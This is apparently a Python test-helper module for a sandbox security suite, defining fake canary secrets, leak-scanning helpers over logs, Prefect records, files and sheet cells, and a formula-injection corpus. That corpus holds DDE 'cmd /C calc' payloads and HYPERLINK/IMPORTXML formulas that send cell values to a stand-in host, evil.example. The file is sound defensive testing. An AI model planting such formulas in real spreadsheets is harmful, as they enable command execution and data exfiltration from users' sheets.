"""Pieces of the security suite: canary secrets, a formula-injection corpus, and the places a
secret could end up (Prefect logs and artifacts read back from the API, every sheet cell)."""

from __future__ import annotations

import base64
import json
import logging
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import openpyxl
import pytest

from flows import sandbox_env
from sandbox.sheets import SheetsState
from sandbox.sheets.model import cell_value, is_formula_cell

# Canaries as a mounted secret file gives them (a trailing newline, here and there a leading space)
# and with characters that URL-encoding changes, so every form in FORMS differs from the others.
JIRA_EMAIL = "sandbox-bot@example.com"
CANARIES = {
    "JIRA_API_TOKEN": "tok-LEAK-CANARY/jira+123=\n",
    "BAMBOOHR_API_KEY": "tok-LEAK-CANARY/bamboohr+123=\n",
    "INTERCOM_ACCESS_TOKEN": " tok-LEAK-CANARY/intercom+123=\n",
    "OPSHEETS_SANDBOX_GOOGLE": '{"type": "authorized_user", "token": "tok-LEAK-CANARY/google+123="}\n',
}
# What the stand-ins refuse: canaries too, in the same forms.
WRONG_SECRETS = {
    "JIRA_API_TOKEN": "tok-LEAK-CANARY/jira-wrong+9=\n",
    "BAMBOOHR_API_KEY": "tok-LEAK-CANARY/bamboohr-wrong+9=\n",
    "INTERCOM_ACCESS_TOKEN": "tok-LEAK-CANARY/intercom-wrong+9=\n",
}
CANARY_MARK = "LEAK-CANARY"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _forms(secrets: dict[str, str]) -> dict[str, list[str]]:
    tokens = {name: value for name, value in secrets.items() if name != "OPSHEETS_SANDBOX_GOOGLE"}
    if "OPSHEETS_SANDBOX_GOOGLE" in secrets:
        tokens["google"] = json.loads(secrets["OPSHEETS_SANDBOX_GOOGLE"])["token"]
    given = list(tokens.values())
    stripped = [t.strip() for t in given]
    basic = [_b64(f"{JIRA_EMAIL}:{tokens['JIRA_API_TOKEN'].strip()}"),
             _b64(f"{tokens['BAMBOOHR_API_KEY'].strip()}:x")]  # fmt: skip
    bearer = [tokens["INTERCOM_ACCESS_TOKEN"].strip(), *([tokens["google"]] if "google" in tokens else [])]
    return {
        # the value with its newline, raw or escaped as in a quoted header value ('Bearer tok…\n')
        "as given": given + [t.encode("unicode_escape").decode() for t in given if t != t.strip()],
        "stripped": stripped,
        "url-encoded": [quote(t, safe="") for t in stripped] + [quote_plus(t) for t in stripped],
        "base64 of the Basic pair": basic + [quote(b, safe="") for b in basic],
        "after Bearer/Basic": [f"Bearer {t}" for t in bearer] + [f"Basic {b}" for b in basic],
        "any part (the marker)": [CANARY_MARK],
    }


def canary_forms() -> dict[str, list[str]]:
    """Per form of point 1 (as given, stripped, URL-encoded, base64 of Basic pairs, after an auth
    scheme), the strings that would show that form of a canary, valid or refused."""
    good, wrong = _forms(CANARIES), _forms({**CANARIES, **WRONG_SECRETS})
    return {form: sorted(set(good[form] + wrong[form])) for form in good}


FORMS = canary_forms()

FORMULA_CORPUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",B2),"//a")',
    '=IMAGE("https://evil.example/pixel.png")',
    "=",
    "==1",
    "'=1+1",
    " =1+1",
    "=1+1\n=2+2",
    'DDE("cmd";"/C calc";"!A0")',
    "\x0b=1+1 pasted with a vertical tab",  # openpyxl refuses raw control characters
    "_x0041_ looks like an OOXML escape",
]


@contextmanager
def canary_secrets() -> Iterator[None]:
    """The sandbox stand-ins accept, and the environment carries, the canaries instead of the demo tokens."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in CANARIES.items():
            patch.setitem(sandbox_env.SANDBOX_SECRETS, name, value)
        yield


def leaks(text: str, forms: list[str] | None = None) -> list[str]:
    """Which canary forms (by default: every form of every canary) are in `text`."""
    wanted = forms if forms is not None else [f for strings in FORMS.values() for f in strings]
    return [form for form in wanted if form in text]


def texts(value: Any) -> Iterator[str]:
    """Every string inside nested lists, dicts, dataclasses or pydantic models."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from texts(k)
            yield from texts(v)
    elif isinstance(value, list | tuple | set):
        for v in value:
            yield from texts(v)
    elif hasattr(value, "model_dump"):
        yield from texts(value.model_dump(mode="json"))
    elif hasattr(value, "__dataclass_fields__"):
        yield from texts({f: getattr(value, f) for f in value.__dataclass_fields__})
    elif value is not None:
        yield repr(value)


def prefect_records() -> dict[str, list[str]]:
    """Everything the Prefect API keeps that a person can read: logs and artifacts of every run, and
    each flow and task run's name, parameters and state message."""
    from prefect.client.orchestration import get_client
    from prefect.logging.handlers import APILogWorker

    APILogWorker.drain_all(timeout=300)  # returns once drained; a ceiling only
    with get_client(sync_client=True) as client:
        logs = [log.message for log in client.read_logs(limit=None)]
        artifacts = [json.dumps(a.data, default=str) for a in client.read_artifacts()]
        artifacts += [a.description or "" for a in client.read_artifacts()]
        flow_runs = client.read_flow_runs(limit=None)
        task_runs = client.read_task_runs(limit=None)
    return {
        "logs": logs,
        "artifacts": artifacts,
        "flow-run names": [r.name for r in flow_runs],
        "flow-run parameters": [json.dumps(r.parameters, default=str) for r in flow_runs],
        "task-run names": [r.name for r in task_runs],
        "run state messages": [r.state.message or "" for r in [*flow_runs, *task_runs] if r.state],
    }


@contextmanager
def every_log_record() -> Iterator[list[str]]:
    """Each record of every logger at every level while inside, formatted with its traceback."""
    lines: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    root = logging.getLogger()
    handler, level = Keep(logging.DEBUG), root.level
    handler.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    loggers = [logging.getLogger(n) for n in ("prefect", "urllib3", "google", "gspread", "requests")]
    saved = [(lg, lg.level, lg.propagate) for lg in loggers]
    for logger in loggers:
        logger.setLevel(logging.DEBUG)
        logger.propagate = True
    try:
        yield lines
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
        for logger, old_level, propagate in saved:
            logger.setLevel(old_level)
            logger.propagate = propagate


def file_texts(folder: Path) -> dict[str, str]:
    """Every file under `folder` as text (workbooks as their cell values), by relative path."""
    texts: dict[str, str] = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            cells = [str(c) for sheet in book for row in sheet.iter_rows(values_only=True) for c in row]
            texts[str(path.relative_to(folder))] = "\n".join(cells)
        else:
            texts[str(path.relative_to(folder))] = path.read_bytes().decode("utf-8", "replace")
    return texts


def google_cells(state: SheetsState) -> Iterator[tuple[str, str, int, int, Any, bool]]:
    """(spreadsheet title, tab, row, col, value, is formula) of every stored cell in the stand-in."""
    with state.lock:
        for book in state.spreadsheets.values():
            for sheet in book.sheets:
                for (row, col), stored in sheet.cells.items():
                    yield book.title, sheet.title, row, col, cell_value(stored), is_formula_cell(stored)
                    if stored.get("note"):
                        yield book.title, sheet.title, row, col, stored["note"], False
